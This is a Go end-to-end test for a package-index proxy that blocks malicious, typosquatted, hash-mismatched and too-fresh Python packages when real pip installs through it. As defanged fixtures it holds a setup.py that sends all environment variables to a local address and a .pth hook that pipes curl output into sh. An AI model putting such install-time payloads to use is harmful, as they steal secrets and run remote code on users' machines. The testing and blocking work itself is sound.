package proxy

import (
	"context"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/safeguard-dev/safeguard/internal/knownbad"
	"github.com/safeguard-dev/safeguard/internal/store"
)

// testProxy serves a proxy in front of up, with a fresh cache and SQLite
// store, the embedded known-malicious snapshot and policy p.
func testProxy(t testing.TB, up *fakeIndex, p *Policy) (*Server, *httptest.Server) {
	t.Helper()
	return testProxyWith(t, up, p, nil, nil)
}

// testProxyWith is testProxy with a resolver for the upstream's fetches
// and a logger (nil: the system's resolver; no log unless -v).
func testProxyWith(t testing.TB, up *fakeIndex, p *Policy, resolver *net.Resolver, logger *slog.Logger) (*Server, *httptest.Server) {
	t.Helper()
	upSrv := httptest.NewServer(up)
	t.Cleanup(upSrv.Close)
	u, err := newUpstream(upSrv.URL+"/simple/", 10*time.Second, nil, resolver)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	cache, err := OpenCache(filepath.Join(dir, "cache"))
	if err != nil {
		t.Fatal(err)
	}
	st, err := store.Open(context.Background(), filepath.Join(dir, "store.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	known, err := knownbad.Snapshot()
	if err != nil {
		t.Fatal(err)
	}
	if p == nil {
		p = DefaultPolicy()
	}
	if err := p.compile(); err != nil {
		t.Fatal(err)
	}
	if logger == nil {
		logger = slog.New(slog.NewTextHandler(io.Discard, nil))
		if testing.Verbose() {
			logger = slog.Default()
		}
	}
	s := New(Options{Upstream: u, Cache: cache, Store: st, Known: known, Policy: p, Engine: "test", Logger: logger})
	t.Cleanup(s.Close)
	srv := httptest.NewServer(s)
	t.Cleanup(srv.Close)
	return s, srv
}

// The bad packages of the end-to-end test. Their payloads are defanged:
// they only talk to 127.0.0.1:9, where nothing listens, and they are
// never meant to run at all.
const leakySetup = `import json
import os
import urllib.request
from setuptools import setup

urllib.request.urlopen("http://127.0.0.1:9/collect", data=json.dumps(dict(os.environ)).encode())

setup(name="leaky", version="2.0")
`

const hookPth = `import os; os.system("curl -s http://127.0.0.1:9/p | sh")` + "\n"

func e2eIndex(t *testing.T, now time.Time) *fakeIndex {
	old := now.Add(-30 * 24 * time.Hour)
	up := newFakeIndex()
	up.add("tidy", upFile{name: "tidy-1.0-py3-none-any.whl", data: wheel(t, "tidy", "1.0", map[string]string{"tidy/__init__.py": "VALUE = 1\n"}), uploaded: old})
	up.add("leaky", upFile{name: "leaky-1.0-py3-none-any.whl", data: wheel(t, "leaky", "1.0", map[string]string{"leaky/__init__.py": ""}), uploaded: old})
	up.add("leaky", upFile{name: "leaky-2.0.tar.gz", data: sdist(t, "leaky", "2.0", map[string]string{"setup.py": leakySetup}), uploaded: old})
	up.add("startup-hook", upFile{name: "startup_hook-1.0-py3-none-any.whl", data: wheel(t, "startup-hook", "1.0", map[string]string{"startup_hook/__init__.py": "", "startup_hook.pth": hookPth}), uploaded: old})
	up.add("reqeusts", upFile{name: "reqeusts-2.31.0-py3-none-any.whl", data: wheel(t, "reqeusts", "2.31.0", map[string]string{"reqeusts/__init__.py": ""}), uploaded: old})
	up.add("mismatch", upFile{name: "mismatch-1.0-py3-none-any.whl", data: wheel(t, "mismatch", "1.0", map[string]string{"mismatch/__init__.py": ""}), uploaded: old,
		sha256: strings.Repeat("ab", 32)})
	up.add("fresh", upFile{name: "fresh-1.0-py3-none-any.whl", data: wheel(t, "fresh", "1.0", map[string]string{"fresh/__init__.py": ""}), uploaded: old})
	up.add("fresh", upFile{name: "fresh-1.1-py3-none-any.whl", data: wheel(t, "fresh", "1.1", map[string]string{"fresh/__init__.py": ""}), uploaded: now.Add(-time.Hour)})
	up.add("123bla", upFile{name: "123bla-0.0.1-py3-none-any.whl", data: wheel(t, "123bla", "0.0.1", map[string]string{"bla/__init__.py": ""}), uploaded: old})
	return up
}

// venv makes a virtualenv with the machine's Python; skips without one.
func venv(t *testing.T) string {
	t.Helper()
	py, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("no python3: the pip end-to-end test needs it")
	}
	dir := filepath.Join(t.TempDir(), "venv")
	if out, err := exec.Command(py, "-m", "venv", dir).CombinedOutput(); err != nil {
		t.Fatalf("venv: %v\n%s", err, out)
	}
	return filepath.Join(dir, "bin", "python")
}

func pip(t *testing.T, py string, args ...string) (string, error) {
	t.Helper()
	cmd := exec.Command(py, append([]string{"-m", "pip"}, args...)...)
	cmd.Env = append(os.Environ(), "PIP_DISABLE_PIP_VERSION_CHECK=1", "PIP_NO_INPUT=1", "PIP_CONFIG_FILE=/dev/null", "PIP_NO_CACHE_DIR=1")
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// acceptCounter records the content types the proxy answered project
// pages with; html forces clients' Accept to text/html.
type acceptCounter struct {
	next      http.Handler
	html      bool
	json, htm atomic.Int64
}

func (a *acceptCounter) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if a.html && strings.HasPrefix(r.URL.Path, "/simple/") {
		r.Header.Set("Accept", "text/html")
	}
	rec := &statusWriter{ResponseWriter: w, status: 200}
	a.next.ServeHTTP(rec, r)
	if strings.HasPrefix(r.URL.Path, "/simple/") {
		switch ct := w.Header().Get("Content-Type"); {
		case strings.HasPrefix(ct, mediaJSON):
			a.json.Add(1)
		case strings.HasPrefix(ct, "text/html"), strings.HasPrefix(ct, mediaHTML):
			a.htm.Add(1)
		}
	}
}

// The real pip, in a fresh virtualenv, installs through the proxy: clean
// packages install, pip falls back to an allowed version, and every bad
// file is refused with its reason; nothing bad lands in the venv. Pip is
// run with PEP 691 JSON (its default) and with HTML.
func TestPipThroughProxy(t *testing.T) {
	if testing.Short() {
		t.Skip("runs pip")
	}
	now := time.Now()
	policy := DefaultPolicy()
	policy.Cooldown.MinAge = duration(72 * time.Hour)
	s, _ := testProxy(t, e2eIndex(t, now), policy)
	for _, mode := range []string{"json", "html"} {
		t.Run(mode, func(t *testing.T) {
			ac := &acceptCounter{next: s, html: mode == "html"}
			srv := httptest.NewServer(ac)
			defer srv.Close()
			index := srv.URL + "/simple/"
			py := venv(t)
			out, err := pip(t, py, "install", "--index-url", index, "tidy", "leaky", "fresh")
			if err != nil {
				t.Fatalf("pip install of allowed packages failed: %v\n%s", err, out)
			}
			list, _ := pip(t, py, "list", "--format", "freeze")
			for _, want := range []string{"tidy==1.0", "leaky==1.0", "fresh==1.0"} {
				if !strings.Contains(list, want) {
					t.Errorf("venv lacks %s (leaky 2.0 is malicious, fresh 1.1 is in its cooldown):\n%s", want, list)
				}
			}
			for _, bad := range []string{"startup-hook", "reqeusts", "mismatch", "123bla"} {
				out, err := pip(t, py, "install", "--index-url", index, bad)
				if err == nil {
					t.Errorf("pip installed %s:\n%s", bad, out)
				} else if !strings.Contains(out, "No matching distribution found for "+bad) {
					t.Errorf("pip did not fail cleanly on %s (a blocked file must leave the page):\n%s", bad, out)
				}
			}
			list, _ = pip(t, py, "list", "--format", "freeze")
			for _, bad := range []string{"leaky==2.0", "startup-hook", "startup_hook", "reqeusts", "mismatch", "123bla", "fresh==1.1"} {
				if strings.Contains(strings.ToLower(list), bad) {
					t.Errorf("%s landed in the venv:\n%s", bad, list)
				}
			}
			site, _ := filepath.Glob(filepath.Join(filepath.Dir(filepath.Dir(py)), "lib", "python*", "site-packages", "*.pth"))
			for _, p := range site {
				if strings.Contains(p, "startup_hook") {
					t.Errorf("the malicious .pth is installed: %s", p)
				}
			}
			if mode == "json" && (ac.json.Load() == 0 || ac.htm.Load() != 0) || mode == "html" && (ac.htm.Load() == 0 || ac.json.Load() != 0) {
				t.Errorf("%s run: %d JSON and %d HTML pages served", mode, ac.json.Load(), ac.htm.Load())
			}
		})
	}
	// Each bad file, asked for directly, is refused with its reason.
	srv := httptest.NewServer(s)
	defer srv.Close()
	for _, tt := range []struct {
		project, file string
		code          int
		want          []string
	}{
		{"leaky", "leaky-2.0.tar.gz", 403, []string{"rule malicious", "setup.py:6", "os.environ"}},
		{"startup-hook", "startup_hook-1.0-py3-none-any.whl", 403, []string{"rule malicious", "startup_hook.pth:1", "startup"}},
		{"reqeusts", "reqeusts-2.31.0-py3-none-any.whl", 403, []string{"rule typosquat", "imitates requests"}},
		{"fresh", "fresh-1.1-py3-none-any.whl", 403, []string{"rule cooldown", "72h0m0s"}},
		{"123bla", "123bla-0.0.1-py3-none-any.whl", 403, []string{"rule known-malicious", "MAL-"}},
		{"mismatch", "mismatch-1.0-py3-none-any.whl", 502, []string{"does not match"}},
	} {
		code, body := fileRequest(t, s, srv.URL, tt.project, tt.file)
		if code != tt.code {
			t.Errorf("%s: HTTP %d, want %d: %s", tt.file, code, tt.code, body)
		}
		for _, w := range tt.want {
			if !strings.Contains(body, w) {
				t.Errorf("%s: reason lacks %q: %s", tt.file, w, body)
			}
		}
	}
	ds, err := s.opt.Store.Decisions(context.Background(), store.DecisionFilter{Action: "block", Limit: 100})
	if err != nil || len(ds) < 6 {
		t.Errorf("decision log has %d blocks (%v), want at least 6", len(ds), err)
	}
}

// fileRequest asks the proxy for a file by the URL its own page gives
// (the page of a blocked file does not list it, so the URL is built from
// the upstream page).
func fileRequest(t *testing.T, s *Server, base, project, filename string) (int, string) {
	t.Helper()
	up, err := s.upstreamPage(context.Background(), project)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range up.Files {
		if f.Filename == filename {
			resp, err := http.Get(base + "/files/" + project + "/" + f.SHA256() + "/" + filename)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			b, _ := io.ReadAll(resp.Body)
			return resp.StatusCode, string(b)
		}
	}
	t.Fatalf("%s not on the upstream page of %s", filename, project)
	return 0, ""
}
